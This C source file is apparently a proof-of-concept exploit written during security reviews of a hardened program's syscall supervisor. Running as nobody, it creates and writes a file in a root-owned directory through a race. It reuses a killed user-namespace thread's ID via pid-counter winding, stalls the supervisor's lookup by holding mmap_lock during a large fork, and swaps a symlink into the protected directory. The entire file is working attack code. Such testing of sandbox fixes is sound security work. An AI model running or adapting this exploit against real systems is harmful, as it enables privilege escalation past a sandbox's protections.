/* rev39-tid-reuse.c - a program run by execve under a hardened program's
 * filter (not our process), as nobody: it has the supervisor create a
 * file in DIR (root's, 0755) by giving the thread number of a caller in a
 * user namespace of its own (every capability there) to a thread of its
 * own in the supervisor's namespace while the supervisor's open waits
 * between its check that the call is still there and its look at
 * /proc/<tid>/ns/user (attacks-rev39-userns-tid-reuse.c says how).
 *
 * rev39-tid-reuse DIR WORK   (WORK: a directory of its own) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "helper-steps.h"

#define PAIRS 31000 /* 62000 mappings: its fork holds its mmap_lock long */

/* A thread of this process that touches no stack: it exits at once, or
 * (forever) waits in pause for good, holding its number. Its tid. */
static long raw_thread(int forever) {
  long r;
  register long r10 __asm__("r10") = 0;
  register long r12 __asm__("r12") = forever;
  __asm__ volatile("syscall\n\t"
                   "test %%rax, %%rax\n\tjnz 2f\n\t"
                   "test %%r12, %%r12\n\tjz 1f\n"
                   "3:\n\tmov $34, %%eax\n\tsyscall\n\tjmp 3b\n"
                   "1:\n\tmov $60, %%eax\n\txor %%edi, %%edi\n\tsyscall\n"
                   "2:"
                   : "=a"(r)
                   : "0"((long)SYS_clone),
                     "D"((long)(CLONE_VM | CLONE_FS | CLONE_FILES |
                                CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM)),
                     "S"(0L), "d"(0L), "r"(r10), "r"(r12)
                   : "rcx", "r11", "memory");
  return r;
}

static int exists(long tid) {
  char p[32];
  struct stat st;
  snprintf(p, sizeof p, "/proc/%ld", tid);
  return !stat(p, &st);
}

static void ms(int n) {
  struct timespec t = {n / 1000, (n % 1000) * 1000000L};
  nanosleep(&t, NULL);
}

/* Makes threads until the next number the kernel gives out is x (x in
 * use now): every number from the last one made up to x is taken. */
static int wind_to(long x) {
  for (long made = 0; made < 200000; made++) {
    long r = raw_thread(0);
    if (r <= 0)
      return 0;
    if (r < x && r >= x - 64) {
      int all = 1;
      for (long q = r + 1; q < x && all; q++)
        all = exists(q);
      if (all)
        return 1;
    }
  }
  return 0;
}

/* P: many mappings; each byte on `cue` makes it fork (dup_mmap holds its
 * mmap_lock for writing meanwhile), and a byte on `done` says it ended. */
static void forker(int cue, int done) {
  char *m = mmap(NULL, (size_t)PAIRS * 2 * 4096, PROT_READ | PROT_WRITE,
                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (m == MAP_FAILED)
    _exit(1);
  for (size_t i = 0; i < PAIRS; i++) {
    m[i * 2 * 4096] = 1;
    mprotect(m + (i * 2 + 1) * 4096, 4096, PROT_READ);
  }
  char c;
  if (write(done, "r", 1) != 1)
    _exit(1);
  while (read(cue, &c, 1) == 1) {
    pid_t k = fork();
    if (k == 0)
      _exit(0);
    waitpid(k, NULL, 0);
    if (write(done, "f", 1) != 1)
      _exit(1);
  }
  _exit(0);
}

struct caller {
  int tell, cue;
  const char *path;
};

/* T: tells its number, waits for the cue, opens. */
static void *caller_thread(void *arg) {
  struct caller *c = arg;
  long tid = syscall(SYS_gettid);
  char go;
  if (write(c->tell, &tid, sizeof tid) != sizeof tid ||
      read(c->cue, &go, 1) != 1)
    return NULL;
  open(c->path, O_WRONLY | O_CREAT, 0644);
  return NULL;
}

/* U: a user namespace of its own, and T in it. */
static void userns_caller(int tell, int cue, const char *path) {
  if (unshare(CLONE_NEWUSER))
    _exit(1);
  static struct caller c;
  c = (struct caller){tell, cue, path};
  pthread_t t;
  if (pthread_create(&t, NULL, caller_thread, &c))
    _exit(1);
  for (;;)
    pause();
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *dir = argv[1], *work = argv[2];
  char victim[512], a[512], b[512], path[600], via[64];
  snprintf(victim, sizeof victim, "%s/victim", dir);
  snprintf(a, sizeof a, "%s/a", work);
  snprintf(b, sizeof b, "%s/b", work);
  snprintf(path, sizeof path, "%s/victim", a);

  /* The control: nobody may not create a file in DIR */
  int fd = open(victim, O_WRONLY | O_CREAT, 0644);
  printf("helper: plain create in root's directory: %s\n",
         fd < 0 ? strerror(errno) : "created");
  if (fd >= 0)
    return close(fd), unlink(victim), 1;

  /* and not in a user namespace of its own either (review 38's fix) */
  pid_t k = fork();
  if (k == 0) {
    if (unshare(CLONE_NEWUSER))
      _exit(1);
    fd = open(victim, O_WRONLY | O_CREAT, 0644);
    printf("helper: create in a user namespace: %s\n",
           fd < 0 ? strerror(errno) : "created");
    _exit(0);
  }
  waitpid(k, NULL, 0);

  int pc[2], pd[2];
  if (!step(!pipe(pc) && !pipe(pd), "pipe"))
    return 1;
  pid_t p = fork();
  if (p == 0) {
    close(pc[1]), close(pd[0]);
    forker(pc[0], pd[1]);
  }
  /* numbers below 364 have no number of ours just below after a wrap
   * (the counter comes back at 300) */
  for (int i = 0; i < 2000 && raw_thread(0) < 1000; i++) {
  }
  char c;
  if (!step(read(pd[0], &c, 1) == 1, "the forker's mappings"))
    return 1;
  snprintf(via, sizeof via, "/proc/%d/map_files/1-2", (int)p);

  for (int round = 1; round <= 6; round++) {
    unlink(a);
    unlink(b);
    if (!step(!symlink(via, a) && !symlink(dir, b), "symlink"))
      return 1;
    int tell[2], cue[2];
    if (!step(!pipe(tell) && !pipe(cue), "pipe"))
      return 1;
    pid_t u = fork();
    if (u == 0)
      userns_caller(tell[1], cue[0], path);
    long x = 0;
    if (!step(read(tell[0], &x, sizeof x) == sizeof x, "the caller's tid"))
      return 1;
    close(tell[0]), close(tell[1]), close(cue[0]);
    if (!wind_to(x)) {
      printf("helper: round %d: could not wind the pid counter to %ld\n",
             round, x);
      kill(u, SIGKILL), waitpid(u, NULL, 0), close(cue[1]);
      continue;
    }
    /* P forks: its mmap_lock is held for writing for a while */
    if (write(pc[1], "f", 1) != 1)
      return 1;
    ms(30);
    /* T opens: the supervisor's fstatat of the path waits in map_files */
    if (write(cue[1], "g", 1) != 1)
      return 1;
    ms(150);
    /* T goes, and its number is a thread's of ours, in our namespace */
    kill(u, SIGKILL);
    for (int i = 0; i < 2000 && exists(x); i++)
      ms(1);
    long y = raw_thread(1);
    /* the path now leads into DIR */
    rename(b, a);
    if (!step(read(pd[0], &c, 1) == 1, "the forker's fork"))
      return 1;
    ms(300);
    waitpid(u, NULL, 0);
    close(cue[1]);
    struct stat st;
    int made = !stat(victim, &st);
    printf("helper: round %d: caller %ld, our thread %ld, %s\n", round, x, y,
           made ? "the file is there" : "no file");
    if (!made)
      continue;
    fd = open(victim, O_WRONLY);
    if (fd >= 0 && st.st_uid == getuid() && write(fd, "ours\n", 5) == 5)
      printf("ATTACK SUCCEEDED: nobody made a file of its own in root's "
             "directory (uid %d) and wrote it\n",
             (int)st.st_uid);
    if (fd >= 0)
      close(fd);
    break;
  }
  unlink(a);
  unlink(b);
  close(pc[1]);
  waitpid(p, NULL, 0);
  printf("helper: done\n");
  return 0;
}
